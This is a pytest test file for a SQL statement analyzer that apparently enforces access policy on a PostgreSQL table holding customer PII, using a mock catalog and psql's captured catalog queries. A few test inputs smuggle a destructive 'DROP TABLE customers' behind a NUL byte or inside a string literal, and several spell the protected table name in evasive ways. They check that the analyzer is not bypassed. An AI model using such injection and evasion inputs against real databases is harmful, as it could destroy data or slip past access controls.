"""Statement analysis (policy.analyze): facts established with PostgreSQL's own grammar.

Pure tests over a hand-built catalog: ``public.customers`` (PII), ``public.orders``, a view over
customers, a same-named ``archive.customers``, and pg_catalog relations with their real columns
(PostgreSQL 15), so that the catalog queries psql sends (kept below, captured with ``psql -E``)
resolve as they would against a live database. Each test names the bypass or bullet it covers.
"""

from __future__ import annotations

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pglast.parser import normalize

from policy.analysis import statements as statements_module
from policy.analysis.builtins import words
from policy.analysis.names import parse_qualified, quote_identifier, search_path_schemas
from policy.analysis.statements import StatementWalker
from policy.analyze import Budget, analyze
from policy.catalog import MATVIEW, TABLE, VIEW, Catalog, Function, Relation
from policy.facts import (
    Access,
    Analysis,
    Clause,
    ColumnUse,
    CopyFacts,
    CopyTarget,
    FetchDirection,
    FetchFacts,
    FunctionClass,
    OutputColumn,
    StatementFacts,
    TableUse,
)

CUSTOMERS = ("id", "name", "address", "phone", "email", "card_number", "created_at")
ORDERS = ("id", "customer_id", "amount", "status", "created_at")

# pg_catalog relations with their columns (PostgreSQL 15): name kind columns..., continued lines indented.
PG_CATALOG = """
pg_am r oid amname amhandler amtype
pg_attrdef r oid adrelid adnum adbin
pg_attribute r attrelid attname atttypid attstattarget attlen attnum attndims attcacheoff atttypmod
    attbyval attalign attstorage attcompression attnotnull atthasdef atthasmissing attidentity
    attgenerated attisdropped attislocal attinhcount attcollation attacl attoptions attfdwoptions
    attmissingval
pg_auth_members r roleid member grantor admin_option
pg_authid r oid rolname rolsuper rolinherit rolcreaterole rolcreatedb rolcanlogin rolreplication
    rolbypassrls rolconnlimit rolpassword rolvaliduntil
pg_class r oid relname relnamespace reltype reloftype relowner relam relfilenode reltablespace
    relpages reltuples relallvisible reltoastrelid relhasindex relisshared relpersistence relkind
    relnatts relchecks relhasrules relhastriggers relhassubclass relrowsecurity relforcerowsecurity
    relispopulated relreplident relispartition relrewrite relfrozenxid relminmxid relacl reloptions
    relpartbound
pg_collation r oid collname collnamespace collowner collprovider collisdeterministic collencoding
    collcollate collctype colliculocale collversion
pg_constraint r oid conname connamespace contype condeferrable condeferred convalidated conrelid
    contypid conindid conparentid confrelid confupdtype confdeltype confmatchtype conislocal
    coninhcount connoinherit conkey confkey conpfeqop conppeqop conffeqop confdelsetcols conexclop
    conbin
pg_database r oid datname datdba encoding datlocprovider datistemplate datallowconn datconnlimit
    datfrozenxid datminmxid dattablespace datcollate datctype daticulocale datcollversion datacl
pg_description r objoid classoid objsubid description
pg_extension r oid extname extowner extnamespace extrelocatable extversion extconfig extcondition
pg_index r indexrelid indrelid indnatts indnkeyatts indisunique indnullsnotdistinct indisprimary
    indisexclusion indimmediate indisclustered indisvalid indcheckxmin indisready indislive
    indisreplident indkey indcollation indclass indoption indexprs indpred
pg_inherits r inhrelid inhparent inhseqno inhdetachpending
pg_largeobject r loid pageno data
pg_namespace r oid nspname nspowner nspacl
pg_policy r oid polname polrelid polcmd polpermissive polroles polqual polwithcheck
pg_proc r oid proname pronamespace proowner prolang procost prorows provariadic prosupport prokind
    prosecdef proleakproof proisstrict proretset provolatile proparallel pronargs pronargdefaults
    prorettype proargtypes proallargtypes proargmodes proargnames proargdefaults protrftypes prosrc
    probin prosqlbody proconfig proacl
pg_publication r oid pubname pubowner puballtables pubinsert pubupdate pubdelete pubtruncate
    pubviaroot
pg_publication_namespace r oid pnpubid pnnspid
pg_publication_rel r oid prpubid prrelid prqual prattrs
pg_roles v rolname rolsuper rolinherit rolcreaterole rolcreatedb rolcanlogin rolreplication
    rolconnlimit rolpassword rolvaliduntil rolbypassrls rolconfig oid
pg_settings v name setting unit category short_desc extra_desc context vartype source min_val
    max_val enumvals boot_val reset_val sourcefile sourceline pending_restart
pg_statistic r starelid staattnum stainherit stanullfrac stawidth stadistinct stakind1 stakind2
    stakind3 stakind4 stakind5 staop1 staop2 staop3 staop4 staop5 stacoll1 stacoll2 stacoll3
    stacoll4 stacoll5 stanumbers1 stanumbers2 stanumbers3 stanumbers4 stanumbers5 stavalues1
    stavalues2 stavalues3 stavalues4 stavalues5
pg_statistic_ext r oid stxrelid stxname stxnamespace stxowner stxstattarget stxkeys stxkind stxexprs
pg_stats v schemaname tablename attname inherited null_frac avg_width n_distinct most_common_vals
    most_common_freqs histogram_bounds correlation most_common_elems most_common_elem_freqs
    elem_count_histogram
pg_type r oid typname typnamespace typowner typlen typbyval typtype typcategory typispreferred
    typisdefined typdelim typrelid typsubscript typelem typarray typinput typoutput typreceive
    typsend typmodin typmodout typanalyze typalign typstorage typnotnull typbasetype typtypmod
    typndims typcollation typdefaultbin typdefault typacl
"""
_VIEW_READS = {"pg_roles": {("pg_catalog", "pg_authid")}, "pg_stats": {("pg_catalog", "pg_statistic")}}


def _pg_catalog() -> list[Relation]:
    out = []
    for block in PG_CATALOG.strip().replace("\n    ", " ").splitlines():
        name, kind, *columns = block.split()
        out.append(Relation("pg_catalog", name, kind, tuple(columns), frozenset(_VIEW_READS.get(name, ()))))
    return out


CATALOG = Catalog.of(
    [
        Relation("public", "customers", TABLE, CUSTOMERS),
        Relation("public", "orders", TABLE, ORDERS),
        Relation("public", "customer_names", VIEW, ("id", "name"), frozenset({("public", "customers")})),
        Relation("public", "customer_stats", MATVIEW, ("n",), frozenset({("public", "customers")})),
        Relation("archive", "customers", TABLE, ("id", "name", "email")),
        Relation("archive", "orders_2020", TABLE, ORDERS),
        *_pg_catalog(),
    ],
    [
        Function("public", "my_func", "plpgsql"),
        Function("public", "md5", "sql"),  # same name as a builtin: an overload that may be chosen
        Function("public", "dblink", "c"),
        Function("public", "dblink_connect", "c"),
    ],
)
EVERY_SCHEMA = ("public", "archive")  # what the gateway passes: every schema, public first

PSQL_QUERIES: dict[str, str] = {
    "\\d customers (1/9)": r"""SELECT c.oid,
  n.nspname,
  c.relname
FROM pg_catalog.pg_class c
     LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace
WHERE c.relname OPERATOR(pg_catalog.~) '^(customers)$' COLLATE pg_catalog.default
  AND pg_catalog.pg_table_is_visible(c.oid)
ORDER BY 2, 3;""",
    "\\d customers (2/9)": r"""SELECT c.relchecks, c.relkind, c.relhasindex, c.relhasrules, c.relhastriggers, c.relrowsecurity, c.relforcerowsecurity, false AS relhasoids, c.relispartition, '', c.reltablespace, CASE WHEN c.reloftype = 0 THEN '' ELSE c.reloftype::pg_catalog.regtype::pg_catalog.text END, c.relpersistence, c.relreplident, am.amname
FROM pg_catalog.pg_class c
 LEFT JOIN pg_catalog.pg_class tc ON (c.reltoastrelid = tc.oid)
LEFT JOIN pg_catalog.pg_am am ON (c.relam = am.oid)
WHERE c.oid = '16387';""",  # noqa: E501
    "\\d customers (3/9)": r"""SELECT a.attname,
  pg_catalog.format_type(a.atttypid, a.atttypmod),
  (SELECT pg_catalog.pg_get_expr(d.adbin, d.adrelid, true)
   FROM pg_catalog.pg_attrdef d
   WHERE d.adrelid = a.attrelid AND d.adnum = a.attnum AND a.atthasdef),
  a.attnotnull,
  (SELECT c.collname FROM pg_catalog.pg_collation c, pg_catalog.pg_type t
   WHERE c.oid = a.attcollation AND t.oid = a.atttypid AND a.attcollation <> t.typcollation) AS attcollation,
  a.attidentity,
  a.attgenerated
FROM pg_catalog.pg_attribute a
WHERE a.attrelid = '16387' AND a.attnum > 0 AND NOT a.attisdropped
ORDER BY a.attnum;""",
    "\\d customers (4/9)": r"""SELECT c2.relname, i.indisprimary, i.indisunique, i.indisclustered, i.indisvalid, pg_catalog.pg_get_indexdef(i.indexrelid, 0, true),
  pg_catalog.pg_get_constraintdef(con.oid, true), contype, condeferrable, condeferred, i.indisreplident, c2.reltablespace
FROM pg_catalog.pg_class c, pg_catalog.pg_class c2, pg_catalog.pg_index i
  LEFT JOIN pg_catalog.pg_constraint con ON (conrelid = i.indrelid AND conindid = i.indexrelid AND contype IN ('p','u','x'))
WHERE c.oid = '16387' AND c.oid = i.indrelid AND i.indexrelid = c2.oid
ORDER BY i.indisprimary DESC, c2.relname;""",  # noqa: E501
    "\\d customers (5/9)": r"""SELECT pol.polname, pol.polpermissive,
  CASE WHEN pol.polroles = '{0}' THEN NULL ELSE pg_catalog.array_to_string(array(select rolname from pg_catalog.pg_roles where oid = any (pol.polroles) order by 1),',') END,
  pg_catalog.pg_get_expr(pol.polqual, pol.polrelid),
  pg_catalog.pg_get_expr(pol.polwithcheck, pol.polrelid),
  CASE pol.polcmd
    WHEN 'r' THEN 'SELECT'
    WHEN 'a' THEN 'INSERT'
    WHEN 'w' THEN 'UPDATE'
    WHEN 'd' THEN 'DELETE'
    END AS cmd
FROM pg_catalog.pg_policy pol
WHERE pol.polrelid = '16387' ORDER BY 1;""",  # noqa: E501
    "\\d customers (6/9)": r"""SELECT oid, stxrelid::pg_catalog.regclass, stxnamespace::pg_catalog.regnamespace::pg_catalog.text AS nsp, stxname,
pg_catalog.pg_get_statisticsobjdef_columns(oid) AS columns,
  'd' = any(stxkind) AS ndist_enabled,
  'f' = any(stxkind) AS deps_enabled,
  'm' = any(stxkind) AS mcv_enabled,
stxstattarget
FROM pg_catalog.pg_statistic_ext
WHERE stxrelid = '16387'
ORDER BY nsp, stxname;""",  # noqa: E501
    "\\d customers (7/9)": r"""SELECT pubname
     , NULL
     , NULL
FROM pg_catalog.pg_publication p
     JOIN pg_catalog.pg_publication_namespace pn ON p.oid = pn.pnpubid
     JOIN pg_catalog.pg_class pc ON pc.relnamespace = pn.pnnspid
WHERE pc.oid ='16387' and pg_catalog.pg_relation_is_publishable('16387')
UNION
SELECT pubname
     , pg_get_expr(pr.prqual, c.oid)
     , (CASE WHEN pr.prattrs IS NOT NULL THEN
         (SELECT string_agg(attname, ', ')
           FROM pg_catalog.generate_series(0, pg_catalog.array_upper(pr.prattrs::pg_catalog.int2[], 1)) s,
                pg_catalog.pg_attribute
          WHERE attrelid = pr.prrelid AND attnum = prattrs[s])
        ELSE NULL END) FROM pg_catalog.pg_publication p
     JOIN pg_catalog.pg_publication_rel pr ON p.oid = pr.prpubid
     JOIN pg_catalog.pg_class c ON c.oid = pr.prrelid
WHERE pr.prrelid = '16387'
UNION
SELECT pubname
     , NULL
     , NULL
FROM pg_catalog.pg_publication p
WHERE p.puballtables AND pg_catalog.pg_relation_is_publishable('16387')
ORDER BY 1;""",
    "\\d customers (8/9)": r"""SELECT c.oid::pg_catalog.regclass
FROM pg_catalog.pg_class c, pg_catalog.pg_inherits i
WHERE c.oid = i.inhparent AND i.inhrelid = '16387'
  AND c.relkind != 'p' AND c.relkind != 'I'
ORDER BY inhseqno;""",
    "\\d customers (9/9)": r"""SELECT c.oid::pg_catalog.regclass, c.relkind, inhdetachpending, pg_catalog.pg_get_expr(c.relpartbound, c.oid)
FROM pg_catalog.pg_class c, pg_catalog.pg_inherits i
WHERE c.oid = i.inhrelid AND i.inhparent = '16387'
ORDER BY pg_catalog.pg_get_expr(c.relpartbound, c.oid) = 'DEFAULT', c.oid::pg_catalog.regclass::pg_catalog.text;""",  # noqa: E501
    "\\dt": r"""SELECT n.nspname as "Schema",
  c.relname as "Name",
  CASE c.relkind WHEN 'r' THEN 'table' WHEN 'v' THEN 'view' WHEN 'm' THEN 'materialized view' WHEN 'i' THEN 'index' WHEN 'S' THEN 'sequence' WHEN 't' THEN 'TOAST table' WHEN 'f' THEN 'foreign table' WHEN 'p' THEN 'partitioned table' WHEN 'I' THEN 'partitioned index' END as "Type",
  pg_catalog.pg_get_userbyid(c.relowner) as "Owner"
FROM pg_catalog.pg_class c
     LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace
     LEFT JOIN pg_catalog.pg_am am ON am.oid = c.relam
WHERE c.relkind IN ('r','p','')
      AND n.nspname <> 'pg_catalog'
      AND n.nspname !~ '^pg_toast'
      AND n.nspname <> 'information_schema'
  AND pg_catalog.pg_table_is_visible(c.oid)
ORDER BY 1,2;""",  # noqa: E501
    "\\d+ customers (2/9)": r"""SELECT c.relchecks, c.relkind, c.relhasindex, c.relhasrules, c.relhastriggers, c.relrowsecurity, c.relforcerowsecurity, false AS relhasoids, c.relispartition, pg_catalog.array_to_string(c.reloptions || array(select 'toast.' || x from pg_catalog.unnest(tc.reloptions) x), ', ')
, c.reltablespace, CASE WHEN c.reloftype = 0 THEN '' ELSE c.reloftype::pg_catalog.regtype::pg_catalog.text END, c.relpersistence, c.relreplident, am.amname
FROM pg_catalog.pg_class c
 LEFT JOIN pg_catalog.pg_class tc ON (c.reltoastrelid = tc.oid)
LEFT JOIN pg_catalog.pg_am am ON (c.relam = am.oid)
WHERE c.oid = '16387';""",  # noqa: E501
    "\\d+ customers (3/9)": r"""SELECT a.attname,
  pg_catalog.format_type(a.atttypid, a.atttypmod),
  (SELECT pg_catalog.pg_get_expr(d.adbin, d.adrelid, true)
   FROM pg_catalog.pg_attrdef d
   WHERE d.adrelid = a.attrelid AND d.adnum = a.attnum AND a.atthasdef),
  a.attnotnull,
  (SELECT c.collname FROM pg_catalog.pg_collation c, pg_catalog.pg_type t
   WHERE c.oid = a.attcollation AND t.oid = a.atttypid AND a.attcollation <> t.typcollation) AS attcollation,
  a.attidentity,
  a.attgenerated,
  a.attstorage,
  a.attcompression AS attcompression,
  CASE WHEN a.attstattarget=-1 THEN NULL ELSE a.attstattarget END AS attstattarget,
  pg_catalog.col_description(a.attrelid, a.attnum)
FROM pg_catalog.pg_attribute a
WHERE a.attrelid = '16387' AND a.attnum > 0 AND NOT a.attisdropped
ORDER BY a.attnum;""",
    "\\l": r"""SELECT d.datname as "Name",
       pg_catalog.pg_get_userbyid(d.datdba) as "Owner",
       pg_catalog.pg_encoding_to_char(d.encoding) as "Encoding",
       d.datcollate as "Collate",
       d.datctype as "Ctype",
       d.daticulocale as "ICU Locale",
       CASE d.datlocprovider WHEN 'c' THEN 'libc' WHEN 'i' THEN 'icu' END AS "Locale Provider",
       pg_catalog.array_to_string(d.datacl, E'\n') AS "Access privileges"
FROM pg_catalog.pg_database d
ORDER BY 1;""",
    "\\dn": r"""SELECT n.nspname AS "Name",
  pg_catalog.pg_get_userbyid(n.nspowner) AS "Owner"
FROM pg_catalog.pg_namespace n
WHERE n.nspname !~ '^pg_' AND n.nspname <> 'information_schema'
ORDER BY 1;""",
    "\\df": r"""SELECT n.nspname as "Schema",
  p.proname as "Name",
  pg_catalog.pg_get_function_result(p.oid) as "Result data type",
  pg_catalog.pg_get_function_arguments(p.oid) as "Argument data types",
 CASE p.prokind
  WHEN 'a' THEN 'agg'
  WHEN 'w' THEN 'window'
  WHEN 'p' THEN 'proc'
  ELSE 'func'
 END as "Type"
FROM pg_catalog.pg_proc p
     LEFT JOIN pg_catalog.pg_namespace n ON n.oid = p.pronamespace
WHERE pg_catalog.pg_function_is_visible(p.oid)
      AND n.nspname <> 'pg_catalog'
      AND n.nspname <> 'information_schema'
ORDER BY 1, 2, 4;""",
    "\\du": r"""SELECT r.rolname, r.rolsuper, r.rolinherit,
  r.rolcreaterole, r.rolcreatedb, r.rolcanlogin,
  r.rolconnlimit, r.rolvaliduntil,
  ARRAY(SELECT b.rolname
        FROM pg_catalog.pg_auth_members m
        JOIN pg_catalog.pg_roles b ON (m.roleid = b.oid)
        WHERE m.member = r.oid) as memberof
, r.rolreplication
, r.rolbypassrls
FROM pg_catalog.pg_roles r
WHERE r.rolname !~ '^pg_'
ORDER BY 1;""",
    "\\d": r"""SELECT n.nspname as "Schema",
  c.relname as "Name",
  CASE c.relkind WHEN 'r' THEN 'table' WHEN 'v' THEN 'view' WHEN 'm' THEN 'materialized view' WHEN 'i' THEN 'index' WHEN 'S' THEN 'sequence' WHEN 't' THEN 'TOAST table' WHEN 'f' THEN 'foreign table' WHEN 'p' THEN 'partitioned table' WHEN 'I' THEN 'partitioned index' END as "Type",
  pg_catalog.pg_get_userbyid(c.relowner) as "Owner"
FROM pg_catalog.pg_class c
     LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace
     LEFT JOIN pg_catalog.pg_am am ON am.oid = c.relam
WHERE c.relkind IN ('r','p','v','m','S','f','')
      AND n.nspname <> 'pg_catalog'
      AND n.nspname !~ '^pg_toast'
      AND n.nspname <> 'information_schema'
  AND pg_catalog.pg_table_is_visible(c.oid)
ORDER BY 1,2;""",  # noqa: E501
    "\\dv": r"""SELECT n.nspname as "Schema",
  c.relname as "Name",
  CASE c.relkind WHEN 'r' THEN 'table' WHEN 'v' THEN 'view' WHEN 'm' THEN 'materialized view' WHEN 'i' THEN 'index' WHEN 'S' THEN 'sequence' WHEN 't' THEN 'TOAST table' WHEN 'f' THEN 'foreign table' WHEN 'p' THEN 'partitioned table' WHEN 'I' THEN 'partitioned index' END as "Type",
  pg_catalog.pg_get_userbyid(c.relowner) as "Owner"
FROM pg_catalog.pg_class c
     LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace
WHERE c.relkind IN ('v','')
      AND n.nspname <> 'pg_catalog'
      AND n.nspname !~ '^pg_toast'
      AND n.nspname <> 'information_schema'
  AND pg_catalog.pg_table_is_visible(c.oid)
ORDER BY 1,2;""",  # noqa: E501
    "\\di": r"""SELECT n.nspname as "Schema",
  c.relname as "Name",
  CASE c.relkind WHEN 'r' THEN 'table' WHEN 'v' THEN 'view' WHEN 'm' THEN 'materialized view' WHEN 'i' THEN 'index' WHEN 'S' THEN 'sequence' WHEN 't' THEN 'TOAST table' WHEN 'f' THEN 'foreign table' WHEN 'p' THEN 'partitioned table' WHEN 'I' THEN 'partitioned index' END as "Type",
  pg_catalog.pg_get_userbyid(c.relowner) as "Owner",
  c2.relname as "Table"
FROM pg_catalog.pg_class c
     LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace
     LEFT JOIN pg_catalog.pg_am am ON am.oid = c.relam
     LEFT JOIN pg_catalog.pg_index i ON i.indexrelid = c.oid
     LEFT JOIN pg_catalog.pg_class c2 ON i.indrelid = c2.oid
WHERE c.relkind IN ('i','I','')
      AND n.nspname <> 'pg_catalog'
      AND n.nspname !~ '^pg_toast'
      AND n.nspname <> 'information_schema'
  AND pg_catalog.pg_table_is_visible(c.oid)
ORDER BY 1,2;""",  # noqa: E501
    "\\dx": r"""SELECT e.extname AS "Name", e.extversion AS "Version", n.nspname AS "Schema", c.description AS "Description"
FROM pg_catalog.pg_extension e LEFT JOIN pg_catalog.pg_namespace n ON n.oid = e.extnamespace LEFT JOIN pg_catalog.pg_description c ON c.objoid = e.oid AND c.classoid = 'pg_catalog.pg_extension'::pg_catalog.regclass
ORDER BY 1;""",  # noqa: E501
    "\\dp": r"""SELECT n.nspname as "Schema",
  c.relname as "Name",
  CASE c.relkind WHEN 'r' THEN 'table' WHEN 'v' THEN 'view' WHEN 'm' THEN 'materialized view' WHEN 'S' THEN 'sequence' WHEN 'f' THEN 'foreign table' WHEN 'p' THEN 'partitioned table' END as "Type",
  pg_catalog.array_to_string(c.relacl, E'\n') AS "Access privileges",
  pg_catalog.array_to_string(ARRAY(
    SELECT attname || E':\n  ' || pg_catalog.array_to_string(attacl, E'\n  ')
    FROM pg_catalog.pg_attribute a
    WHERE attrelid = c.oid AND NOT attisdropped AND attacl IS NOT NULL
  ), E'\n') AS "Column privileges",
  pg_catalog.array_to_string(ARRAY(
    SELECT polname
    || CASE WHEN NOT polpermissive THEN
       E' (RESTRICTIVE)'
       ELSE '' END
    || CASE WHEN polcmd != '*' THEN
           E' (' || polcmd::pg_catalog.text || E'):'
       ELSE E':'
       END
    || CASE WHEN polqual IS NOT NULL THEN
           E'\n  (u): ' || pg_catalog.pg_get_expr(polqual, polrelid)
       ELSE E''
       END
    || CASE WHEN polwithcheck IS NOT NULL THEN
           E'\n  (c): ' || pg_catalog.pg_get_expr(polwithcheck, polrelid)
       ELSE E''
       END    || CASE WHEN polroles <> '{0}' THEN
           E'\n  to: ' || pg_catalog.array_to_string(
               ARRAY(
                   SELECT rolname
                   FROM pg_catalog.pg_roles
                   WHERE oid = ANY (polroles)
                   ORDER BY 1
               ), E', ')
       ELSE E''
       END
    FROM pg_catalog.pg_policy pol
    WHERE polrelid = c.oid), E'\n')
    AS "Policies"
FROM pg_catalog.pg_class c
     LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace
WHERE c.relkind IN ('r','v','m','S','f','p')
  AND n.nspname !~ '^pg_' AND pg_catalog.pg_table_is_visible(c.oid)
ORDER BY 1, 2;""",  # noqa: E501
}


# ---------------------------------------------------------------------- helpers


def run(sql: str, path: tuple[str, ...] = ("public",)) -> Analysis:
    analysis = analyze(sql, CATALOG, path)
    assert analysis.error is None, analysis.error
    return analysis


def one(sql: str, path: tuple[str, ...] = ("public",)) -> StatementFacts:
    statements = run(sql, path).statements
    assert len(statements) == 1, statements
    return statements[0]


def uses(stmt: StatementFacts) -> set[tuple[str, str, str | None]]:
    """Tables as ('schema.name', access, 'via.view' or None)."""
    return {
        (
            f"{t.relation[0]}.{t.relation[1]}",
            t.access.value,
            None if t.via_view is None else ".".join(t.via_view),
        )
        for t in stmt.tables
    }


def reads(stmt: StatementFacts) -> set[str]:
    return {f"{t.relation[0]}.{t.relation[1]}" for t in stmt.tables if t.access == Access.READ}


def cols(stmt: StatementFacts, clause: Clause) -> set[str]:
    """Columns used in one clause, as 'table.column' (schema shown when not public)."""
    return {_col(c.relation[0], c.relation[1], c.column) for c in stmt.columns if c.clause == clause}


def _col(schema: str, table: str, column: str) -> str:
    return f"{table}.{column}" if schema == "public" else f"{schema}.{table}.{column}"


def out(stmt: StatementFacts) -> list[tuple[str, set[str], bool, bool]]:
    """Outputs as (name, {'table.column'}, direct, whole_row)."""
    assert stmt.outputs is not None, stmt.notes
    return [(o.name, {_col(*s) for s in o.sources}, o.direct, o.whole_row) for o in stmt.outputs]


PII = {f"customers.{c}" for c in CUSTOMERS}


# ---------------------------------------------------------------------- parsing


def test_syntax_error_is_reported_with_the_parsers_message() -> None:
    analysis = analyze("SELECT FROM WHERE", CATALOG)
    assert analysis.statements == ()
    assert analysis.error is not None
    assert "syntax error" in analysis.error


def test_empty_string_and_comments_only_have_no_statements() -> None:
    assert analyze("", CATALOG) == Analysis(statements=())
    assert analyze("  -- nothing\n/* at all */ ", CATALOG).statements == ()


def test_nul_character_is_an_error_not_a_truncated_statement() -> None:
    analysis = analyze("SELECT 1\x00; DROP TABLE customers", CATALOG)
    assert analysis.statements == ()
    assert analysis.error is not None


def test_statement_text_is_the_clients_own_slice_with_utf8_offsets() -> None:
    sql = "SELECT 'é日本' AS x; select name from customers ;\n-- trailing\nSELECT 2"
    texts = [s.text for s in run(sql).statements]
    assert texts == ["SELECT 'é日本' AS x", "select name from customers ", "SELECT 2"]  # up to the ;


def test_semicolons_inside_strings_and_dollar_quotes_do_not_split() -> None:
    statements = run("SELECT '; DROP TABLE customers', $q$;$q$, $$x;y$$").statements
    assert len(statements) == 1
    assert statements[0].tables == ()


def test_comments_are_whitespace() -> None:
    stmt = one("SELECT/**/name/* c */FROM--x\ncustomers")
    assert reads(stmt) == {"public.customers"}
    assert out(stmt) == [("name", {"customers.name"}, True, False)]


@pytest.mark.parametrize(
    ("sql", "node", "command"),
    [
        ("SELECT 1", "SelectStmt", "select"),
        ("VALUES (1)", "SelectStmt", "select"),
        ("TABLE customers", "SelectStmt", "select"),
        ("INSERT INTO orders (id) VALUES (1)", "InsertStmt", "insert"),
        ("UPDATE orders SET amount = 1", "UpdateStmt", "update"),
        ("DELETE FROM orders", "DeleteStmt", "delete"),
        ("MERGE INTO orders o USING orders p ON o.id = p.id WHEN MATCHED THEN DELETE", "MergeStmt", "merge"),
        ("COPY orders TO STDOUT", "CopyStmt", "copy"),
        ("EXPLAIN SELECT 1", "ExplainStmt", "explain"),
        ("PREPARE p AS SELECT 1", "PrepareStmt", "prepare"),
        ("EXECUTE p", "ExecuteStmt", "execute"),
        ("DEALLOCATE p", "DeallocateStmt", "deallocate"),
        ("DECLARE c CURSOR FOR SELECT 1", "DeclareCursorStmt", "declare"),
        ("FETCH 5 FROM c", "FetchStmt", "fetch"),
        ("MOVE c", "FetchStmt", "move"),
        ("CLOSE c", "ClosePortalStmt", "close"),
        ("SET work_mem = '64MB'", "VariableSetStmt", "set"),
        ("RESET work_mem", "VariableSetStmt", "reset"),
        ("SHOW work_mem", "VariableShowStmt", "show"),
        ("BEGIN", "TransactionStmt", "begin"),
        ("START TRANSACTION", "TransactionStmt", "begin"),
        ("COMMIT", "TransactionStmt", "commit"),
        ("ROLLBACK", "TransactionStmt", "rollback"),
        ("SAVEPOINT a", "TransactionStmt", "savepoint"),
        ("RELEASE a", "TransactionStmt", "release"),
        ("ROLLBACK TO a", "TransactionStmt", "rollback"),
        ("VACUUM orders", "VacuumStmt", "vacuum"),
        ("ANALYZE orders", "VacuumStmt", "analyze"),
        ("DO $$BEGIN NULL; END$$", "DoStmt", "do"),
        ("CALL my_proc()", "CallStmt", "call"),
        ("LISTEN ch", "ListenStmt", "listen"),
        ("NOTIFY ch, 'x'", "NotifyStmt", "notify"),
        ("UNLISTEN *", "UnlistenStmt", "unlisten"),
        ("LOCK orders", "LockStmt", "lock"),
        ("TRUNCATE orders", "TruncateStmt", "truncate"),
        ("DISCARD PLANS", "DiscardStmt", "discard"),
        ("CREATE TABLE t AS SELECT 1", "CreateTableAsStmt", "create_table_as"),
        ("SELECT 1 INTO t", "SelectStmt", "select_into"),
        ("CREATE VIEW v AS SELECT 1", "ViewStmt", "create_view"),
        (
            "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
            "CreateFunctionStmt",
            "create_function",
        ),
        ("CREATE RULE r AS ON INSERT TO orders DO NOTHING", "RuleStmt", "create_rule"),
        (
            "CREATE TRIGGER t AFTER INSERT ON orders EXECUTE FUNCTION my_func()",
            "CreateTrigStmt",
            "create_trigger",
        ),
        ("CREATE TABLE t (a int)", "CreateStmt", "ddl"),
        ("ALTER TABLE orders ADD COLUMN x int", "AlterTableStmt", "ddl"),
        ("DROP TABLE orders", "DropStmt", "ddl"),
        ("GRANT SELECT ON orders TO bob", "GrantStmt", "grant"),
        ("REVOKE SELECT ON orders FROM bob", "GrantStmt", "revoke"),
        ("COMMENT ON TABLE orders IS 'x'", "CommentStmt", "comment"),
        ("CHECKPOINT", "CheckPointStmt", "checkpoint"),
        ("REINDEX TABLE orders", "ReindexStmt", "reindex"),
        ("CLUSTER orders", "ClusterStmt", "cluster"),
        ("REFRESH MATERIALIZED VIEW customer_stats", "RefreshMatViewStmt", "refresh"),
        ("LOAD 'auto_explain'", "LoadStmt", "load"),
        ("ALTER SYSTEM SET work_mem = '1GB'", "AlterSystemStmt", "alter_system"),
        ("ALTER ROLE bob SET work_mem = '1GB'", "AlterRoleSetStmt", "ddl"),
    ],
)
def test_node_and_command(sql: str, node: str, command: str) -> None:
    stmt = one(sql)
    assert (stmt.node, stmt.command) == (node, command)
    assert stmt.unanalyzable is None, stmt.unanalyzable


@pytest.mark.parametrize(
    "sql",
    [
        "BEGIN",
        "COMMIT",
        "ROLLBACK",
        "SAVEPOINT s",
        "SHOW search_path",
        "SET extra_float_digits = 3",
        "SET application_name = 'psql'",
        "LISTEN ch",
        "NOTIFY ch",
        "CHECKPOINT",
        "DISCARD ALL",
        "DEALLOCATE ALL",
        "CLOSE ALL",
        "VACUUM",
        "ANALYZE",
        "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE",
        "SHOW TRANSACTION ISOLATION LEVEL",
    ],
)
def test_simple_utility_statements_are_analyzable(sql: str) -> None:
    assert one(sql).unanalyzable is None


# ---------------------------------------------------------------------- relations


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT * FROM customers",
        "SELECT * FROM Customers",
        "SELECT * FROM CUSTOMERS",
        'SELECT * FROM "customers"',
        'SELECT * FROM U&"\\0063ustomers"',
        "SELECT * FROM U&\"!0063ustomers\" UESCAPE '!'",
        "SELECT * FROM public.customers",
        'SELECT * FROM "public"."customers"',
        "SELECT * FROM /* hidden */ customers -- trailing",
    ],
)
def test_every_spelling_of_customers_resolves_to_it(sql: str) -> None:
    stmt = one(sql)
    assert reads(stmt) == {"public.customers"}
    assert [o.name for o in stmt.outputs or ()] == list(CUSTOMERS)


def test_three_part_names_use_the_middle_part_as_schema() -> None:
    stmt = one("SELECT name FROM mydb.archive.customers")
    assert reads(stmt) == {"archive.customers"}
    assert out(stmt) == [("name", {"archive.customers.name"}, True, False)]
    assert any("database part" in n for n in stmt.notes)


@pytest.mark.parametrize("name", ['"Customers"', '"CUSTOMERS"', "nosuchtable"])
def test_relations_missing_from_the_catalog_are_listed_with_a_note(name: str) -> None:
    stmt = one(f"SELECT * FROM {name}")
    bare = name.strip('"')
    assert stmt.tables == (TableUse(("", bare), Access.READ),)
    assert any("not in the catalog" in n for n in stmt.notes)
    assert stmt.outputs is None  # * over an unknown relation cannot be expanded


def test_columns_of_an_unknown_relation_name_it_as_their_source() -> None:
    stmt = one("SELECT x FROM nosuchtable")
    assert stmt.outputs == (OutputColumn("x", frozenset({("", "nosuchtable", "x")}), True),)


def test_every_candidate_of_an_unqualified_name_is_listed() -> None:
    stmt = one("SELECT name FROM customers", EVERY_SCHEMA)
    assert reads(stmt) == {"public.customers", "archive.customers"}
    assert out(stmt) == [("name", {"customers.name", "archive.customers.name"}, True, False)]


def test_a_protected_table_later_in_the_path_is_not_hidden() -> None:
    stmt = one("SELECT * FROM customers", ("archive", "public"))
    assert [t.relation for t in stmt.tables] == [("archive", "customers"), ("public", "customers")]


def test_cte_names_shadow_relations_inside_their_scope() -> None:
    stmt = one("WITH customers AS (SELECT 1 AS x) SELECT * FROM customers")
    assert stmt.tables == ()
    assert out(stmt) == [("x", set(), False, False)]


